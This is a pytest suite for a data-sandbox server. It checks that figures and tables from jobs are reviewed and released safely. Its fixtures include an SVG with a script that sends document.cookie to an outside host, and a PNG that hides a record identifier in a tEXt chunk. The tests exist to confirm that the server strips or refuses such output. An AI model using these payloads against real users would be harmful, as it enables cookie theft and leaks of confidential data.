"""Tables and figures of scientific jobs, end to end through the live server, on bwrap and on
docker: a raw-access job returns a DataFrame, a verified crosstab and matplotlib figures; it
is held for review; the reviewer sees the table and the figures exactly as they will be
released (and downloads them); once approved its owner gets ``to_pandas()`` and
``figures()`` equal to what was reviewed, and the CLI writes the figures as files. A PNG
smuggling text is stripped, an SVG with a script and an oversized figure are refused, a DP
job's figure is never released automatically, a restricted job's dict is as before.
"""

from __future__ import annotations

import base64
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from tests.support.datafiles import SECRET_MARKER
from tests.support.http import ok
from tests.support.ray_cluster import RAY_ENV
from tests.support.server import LiveServer, start_server, stop_server
from tests.support.world import World, build_world, grant

pytestmark = pytest.mark.server

SCIENTIFIC = {"runtime_profiles": ["restricted", "scientific"]}

CHART = '''"""Mean income by district: a table, a verified count and two charts."""

import matplotlib.pyplot as plt


def run(ctx):
    people = ctx.table("sr_raw")
    frame = people.to_pandas()
    means = frame.groupby("district", as_index=False)["income"].mean()
    counts = ctx.crosstab(people, rows=frame[["district"]], as_frame=True)
    fig, ax = plt.subplots(figsize=(4, 3))
    ax.bar(means["district"], means["income"])
    ax.set_title("Mean income by district")
    return {"by_district": means, "counts": counts,
            "chart": ctx.figure(fig, name="income.png"),
            "vector": ctx.figure(fig, name="income.svg")}
'''

SMUGGLER = '''"""A PNG carrying an identifier in a text chunk."""

import io
import struct
import zlib

import matplotlib.pyplot as plt


def chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def run(ctx):
    secret = ctx.table("sr_raw").column("pid")[0].as_py().encode()
    fig = plt.figure(figsize=(2, 2))
    buffer = io.BytesIO()
    fig.savefig(buffer, format="png")
    png = buffer.getvalue()
    at = 8 + 25  # after the signature and IHDR
    smuggled = png[:at] + chunk(b"tEXt", b"Comment\\x00" + secret) + png[at:]
    return {"plot": ctx.figure(smuggled, name="plot.png")}
'''

SCRIPTED = '''"""An SVG with a script."""


def run(ctx):
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
           '<script>fetch("https://example.org/" + document.cookie)</script></svg>')
    return {"plot": ctx.figure(svg, name="plot.svg")}
'''

OVERSIZED = '''"""A figure too large to release."""

import matplotlib.pyplot as plt


def run(ctx):
    fig = plt.figure(figsize=(80, 2))
    return {"plot": ctx.figure(fig, name="wide.png", dpi=100)}
'''

WIDE_BYTES = '''"""A PNG the model wrote itself, wider than the platform releases."""

import struct
import zlib


def chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def run(ctx):
    width = 5000
    header = struct.pack(">IIBBBBB", width, 1, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\\x00" + b"\\x80" * width)
    png = (b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels)
           + chunk(b"IEND", b""))
    return {"plot": ctx.figure(png, name="wide.png")}
'''

DP_FIGURE = '''"""A DP count, drawn."""

import matplotlib.pyplot as plt


def run(ctx):
    total = ctx.dataset("sr_auto").count(epsilon=0.5)
    fig = plt.figure(figsize=(2, 2))
    plt.bar(["all"], [total])
    return {"total": total, "plot": ctx.figure(fig, name="total.png")}
'''

DP_DICT = '''"""A DP count, as a dict."""


def run(ctx):
    return {"total": ctx.dataset("sr_auto").count(epsilon=0.5), "note": "as before"}
'''


@pytest.fixture(scope="module", params=["bwrap", "docker"])
def world(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, ray_address: str
) -> Iterator[World]:
    """A live server whose jobs run on the backend of the case, and its world."""
    backend = request.param
    server: LiveServer = start_server(
        tmp_path_factory.mktemp(f"results-{backend}") / "var",
        {"SANDBOX_RAY_ADDRESS": ray_address, "SANDBOX_RUNTIME_BACKEND": backend, **RAY_ENV},
    )
    try:
        made = build_world(server, {"sr_raw": "conditional", "sr_auto": "conditional"})
        with made.client("provider") as provider:
            raw = {"job_limits": {"raw_access_allowed": True, **SCIENTIFIC}}
            ok(provider.put("/v1/datasets/sr_raw/policy", json={"document": raw}))
            auto = {"job_limits": SCIENTIFIC, "review": {"mode": "auto_dp"}}
            ok(provider.put("/v1/datasets/sr_auto/policy", json={"document": auto}))
        made.grants["raw"] = grant(made, "user", ["sr_raw"], job_kinds=["dp", "raw"])["ref"]
        made.grants["auto"] = grant(made, "user", ["sr_auto"])["ref"]
        yield made
    finally:
        stop_server(server)


DOCS = Path(__file__).resolve().parents[2] / "docs" / "models.md"
DOCS_EXAMPLE = re.compile(r"<!-- run: scientific -->\n```python\n(.*?)```", re.S)


def run_job(world: World, source: str, datasets: list[str], **body: Any) -> dict[str, Any]:
    with world.client("user") as client:
        job = ok(
            client.post(
                "/v1/jobs",
                json={"datasets": datasets, "source": source, "profile": "scientific", **body},
            ),
            201,
        )
    with world.api("user") as api:
        done: dict[str, Any] = api.wait_for_job(int(job["id"]), timeout=240)
    return done


def review(world: World, job_id: int) -> dict[str, Any]:
    with world.client("reviewer") as reviewer:
        view: dict[str, Any] = ok(reviewer.get(f"/v1/reviews/{job_id}"))
    return view


def facts(job: dict[str, Any]) -> tuple[Any, ...]:
    """What a failed assertion on a job shows: the platform's facts of how it ended."""
    return job["state"], job["state_reason"], job["outcome"], job.get("progress")


def figure_lines(view: dict[str, Any]) -> list[dict[str, Any]]:
    return [line for line in view["check_report"]["lines"] if line["rule"] == "figure"]


def figure_bytes(part: dict[str, Any]) -> bytes:
    return base64.b64decode(part["base64"])


def test_a_table_and_figures_are_reviewed_and_released_as_seen(
    world: World, tmp_path: Path
) -> None:
    done = run_job(world, CHART, ["sr_raw"], kind="raw")
    assert done["state"] == "pending_review" and done["outcome"] == "ok", facts(done)
    job_id = int(done["id"])
    assert done["backend"] in ("bwrap", "docker")
    with world.client("user") as owner:  # nothing of it before the release
        assert owner.get(f"/v1/results/{job_id}").status_code == 404
        assert owner.get(f"/v1/results/{job_id}/figures/income.png").status_code == 404

    view = review(world, job_id)
    release = view["release"]
    report = view["check_report"]
    assert not report["blocked"] and not report["auto_releasable"]
    assert {"figure", "unverifiable"} <= set(report["failed_rules"])
    assert release["by_district"]["columns"] == ["district", "income"]
    assert [row[0] for row in release["by_district"]["rows"]] == ["East", "North", "South"]
    assert release["counts"]["sdc_output"] and release["counts"]["columns"][0] == "district"
    assert [f["name"] for f in view["figures"]] == ["income.png", "income.svg"]
    assert [f["media_type"] for f in view["figures"]] == ["image/png", "image/svg+xml"]
    assert SECRET_MARKER not in str(release)
    with world.client("reviewer") as reviewer:
        shown: dict[str, bytes] = {}
        for listed in view["figures"]:
            response = reviewer.get(listed["url"])
            assert response.status_code == 200, response.text
            assert response.headers["content-type"] == listed["media_type"]
            assert response.headers["x-content-type-options"] == "nosniff"
            assert response.headers["content-disposition"].startswith("attachment;")
            assert "script-src" not in response.headers["content-security-policy"]
            assert "default-src 'none'" in response.headers["content-security-policy"]
            shown[listed["name"]] = response.content
        ok(reviewer.post(f"/v1/reviews/{job_id}/decision", json={"outcome": "approve"}))
    assert shown["income.png"] == figure_bytes(release["chart"])
    assert shown["income.png"].startswith(b"\x89PNG") and b"tEXt" not in shown["income.png"]
    assert b"<script" not in shown["income.svg"] and b"<!--" not in shown["income.svg"]

    with world.api("user") as api:
        result = api.result(job_id)
    reviewed = pd.DataFrame(release["by_district"]["rows"], columns=["district", "income"])
    pd.testing.assert_frame_equal(result.to_pandas("by_district"), reviewed)
    arrow = result.to_arrow("by_district")
    assert [str(t) for t in arrow.schema.types] == ["large_string", "double"]
    assert result.to_pandas("counts").columns[0] == "district"
    figures = {f.name: f for f in result.figures()}
    assert {name: f.data for name, f in figures.items()} == shown
    saved = figures["income.png"].save(tmp_path)
    assert saved == tmp_path / "income.png" and saved.read_bytes() == shown["income.png"]

    (tmp_path / "cli").mkdir()
    env = dict(world.server.env, SANDBOX_URL=world.server.url, SANDBOX_TOKEN=world.tokens["user"])
    cli = subprocess.run(
        [sys.executable, "-m", "sandbox.cli", "results", "download", str(job_id),
         str(tmp_path / "cli" / "result.json")],
        env=env, capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert cli.returncode == 0, cli.stderr
    assert (tmp_path / "cli" / "income.png").read_bytes() == shown["income.png"]
    assert (tmp_path / "cli" / "income.svg").read_bytes() == shown["income.svg"]
    assert "wrote figure income.svg (image/svg+xml" in cli.stderr


def test_a_png_smuggling_text_is_stripped(world: World) -> None:
    done = run_job(world, SMUGGLER, ["sr_raw"], kind="raw")
    assert done["state"] == "pending_review", done
    view = review(world, int(done["id"]))
    released = figure_bytes(view["release"]["plot"])
    assert released.startswith(b"\x89PNG")
    assert SECRET_MARKER.encode() not in released and b"tEXt" not in released
    [line] = figure_lines(view)
    assert "tEXt" in line["note"] and not line["blocking"]
    assert SECRET_MARKER not in line["note"]


def test_an_svg_with_a_script_is_refused(world: World) -> None:
    done = run_job(world, SCRIPTED, ["sr_raw"], kind="raw")
    assert done["state"] == "rejected", done
    assert done["state_reason"] == "blocked by the output checks: figure"
    [line] = figure_lines(review(world, int(done["id"])))
    assert line["blocking"]
    assert "<script> element" in line["note"]


def test_an_oversized_figure_is_refused_with_a_clear_message(world: World) -> None:
    drawn = run_job(world, OVERSIZED, ["sr_raw"], kind="raw")
    assert drawn["state"] == "failed", drawn
    assert drawn["progress"]["failure"] == {"exception": "ValueError", "line": 8}
    with world.client("reviewer") as reviewer:  # the held message, for whoever may read it
        errors = ok(reviewer.get(f"/v1/jobs/{drawn['id']}"))["errors"]
    assert "the figure would be 8000 x 200 pixels: at most 4096 pixels a side" in errors[0]
    written = run_job(world, WIDE_BYTES, ["sr_raw"], kind="raw")
    assert written["state"] == "rejected", written
    [line] = figure_lines(review(world, int(written["id"])))
    assert line["blocking"]
    assert line["note"] == "figure refused: it is 5000 x 1 pixels: at most 4096 a side are released"


def test_a_dp_figure_is_never_released_automatically(world: World) -> None:
    plain = run_job(world, DP_DICT, ["sr_auto"], profile="restricted")
    assert plain["state"] == "released", plain  # auto_dp releases a DP dict as before
    with world.api("user") as api:
        assert set(api.result(int(plain["id"])).value) == {"total", "note"}
    drawn = run_job(world, DP_FIGURE, ["sr_auto"])
    assert drawn["state"] == "pending_review", drawn
    report = review(world, int(drawn["id"]))["check_report"]
    assert report["failed_rules"] == ["figure"] and not report["blocked"]


def test_the_docs_example_returns_a_table_a_verified_count_and_a_chart(world: World) -> None:
    [source] = DOCS_EXAMPLE.findall(DOCS.read_text(encoding="utf-8"))
    done = run_job(world, source.replace('"people"', '"sr_raw"'), ["sr_raw"], kind="raw")
    assert done["state"] == "pending_review" and done["outcome"] == "ok", facts(done)
    view = review(world, int(done["id"]))
    assert not view["check_report"]["blocked"]
    assert view["release"]["by_district"]["result_part"] == "table"
    assert view["release"]["counts"]["sdc_output"]
    assert [f["name"] for f in view["figures"]] == ["income.png"]
